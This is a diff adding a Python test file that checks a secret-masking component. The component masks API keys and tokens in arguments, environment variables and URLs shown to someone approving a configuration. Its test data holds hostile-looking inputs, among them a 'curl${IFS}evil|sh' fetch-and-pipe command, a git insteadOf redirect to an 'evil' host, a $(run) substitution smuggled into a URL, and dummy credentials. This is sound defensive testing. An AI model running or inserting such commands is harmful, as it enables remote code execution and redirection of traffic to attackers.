@@ -1,0 +1,93 @@
+"""What a person reads before they allow a part: secrets are masked where they cannot decide what is allowed."""
+
+from __future__ import annotations
+
+from urllib.parse import urlsplit
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from zeus_runtime.config.secrets.masking import Redactor
+from zeus_runtime.trust.masking import PartMask
+
+OWN = "sk-own-0123456789abcdef"
+TOKEN = "ghp_0123456789abcdef"
+MASK = PartMask.of(
+    {"OPENAI_API_KEY": OWN, "CI_COMMIT": "see https://x:evilpackage1@host"},
+    Redactor().adding({TOKEN: "GH_TOKEN", "short": "PIN"}),
+)
+
+
+def brought(value: str) -> PartMask:
+    """The mask for a config that brings ``value`` as a secret."""
+    return PartMask.of({}, Redactor().adding({value: "A_TOKEN"}))
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        (TOKEN, TOKEN),
+        (OWN, "<secret:OPENAI_API_KEY>"),
+        ("evilpackage1", "evilpackage1"),
+        (f"x {OWN} y", "x <secret:OPENAI_API_KEY> y"),
+        (f"--token={TOKEN}", "--token=<secret:GH_TOKEN>"),
+        (f"GH_TOKEN={TOKEN}", "GH_TOKEN=<secret:GH_TOKEN>"),
+        ("--token=hunter2hunter2", "--token=**********"),
+        ("api-key==1x2y3z4w5", "api-key==1x2y3z4w5"),
+        (f"--package={TOKEN}", f"--package={TOKEN}"),
+        (f"git+https://{TOKEN}@github.com/a/b", "git+https://<secret:GH_TOKEN>@github.com/a/b"),
+        ("https://me:hunter2@host/a", "https://me:**********@host/a"),
+        ("https://host:80@evil/a", "https://host:**********@evil/a"),
+        ("ssh://me:x%40evil%2F@host/a", "ssh://me:x%40evil%2F@host/a"),
+        ("https://me:$(run)@host/a", "https://me:$(run)@host/a"),
+        (f"https://host/a?api_key={TOKEN}&b=1", "https://host/a?api_key=<secret:GH_TOKEN>&b=1"),
+    ],
+)
+def test_an_argument(text: str, shown: str) -> None:
+    assert MASK.word(text) == shown
+
+
+@pytest.mark.parametrize(
+    ("name", "value", "shown"),
+    [
+        ("GITHUB_TOKEN", TOKEN, "<secret:GH_TOKEN>"),
+        ("GITHUB_TOKEN", "any", "**********"),
+        ("API_KEY", "wJalrXUtnFEMI/K7MDENG1/bPxRfi", "**********"),
+        ("NODE_OPTIONS", TOKEN, TOKEN),
+        ("GIT_CONFIG_KEY_0", "core.sshCommand", "core.sshCommand"),
+        ("GIT_CONFIG_KEY_0", "url.https://evil1234/.insteadOf", "url.https://evil1234/.insteadOf"),
+        ("A_KEY", "./run1234567.sh", "./run1234567.sh"),
+        ("A_KEY", "curl${IFS}evil|sh", "curl${IFS}evil|sh"),
+        ("DATABASE", "postgresql://me:hunter2@db,db2:5/x", "postgresql://me:**********@db,db2:5/x"),
+        ("NODE_OPTIONS", OWN, "<secret:OPENAI_API_KEY>"),
+    ],
+)
+def test_a_variable(name: str, value: str, shown: str) -> None:
+    assert MASK.entry(name, value) == shown
+
+
+@given(st.text(alphabet="ab1./:@?#\\%= [],;&-_~$()", min_size=1, max_size=14))
+@example("evil.example/g")
+@example("evil.example:80/g?x=")
+@example("evil.example\\")
+@example("a:b@evil.example/g?token=")
+def test_no_secret_of_a_config_hides_the_host_of_an_address(secret: str) -> None:
+    address = f"https://{secret}@gateway.example/v1"
+    shown = brought(secret).address(address)
+    if shown != address:
+        before, after = urlsplit(address), urlsplit(shown)
+        assert (after.hostname, after.path) == (before.hostname, before.path)
+        assert not {*(before.username or ""), *(before.password or "")} & {*"/?#\\ @"}
+
+
+@given(
+    st.text(alphabet="ab1./:@?#\\%= -_~$()", min_size=1, max_size=14), st.sampled_from(["{}", "a{}", "{}a"])
+)
+def test_a_secret_of_a_config_is_shown_in_the_place_of_a_host_or_a_package(secret: str, form: str) -> None:
+    mask, text = brought(secret), form.format(secret)
+    assert (
+        mask.address(f"https://x.example{text}") == f"https://x.example{text}" or "?" in text or "@" in text
+    )
+    if "=" not in text and "://" not in text:
+        assert mask.word(text) == mask.entry("NODE_OPTIONS", text) == text
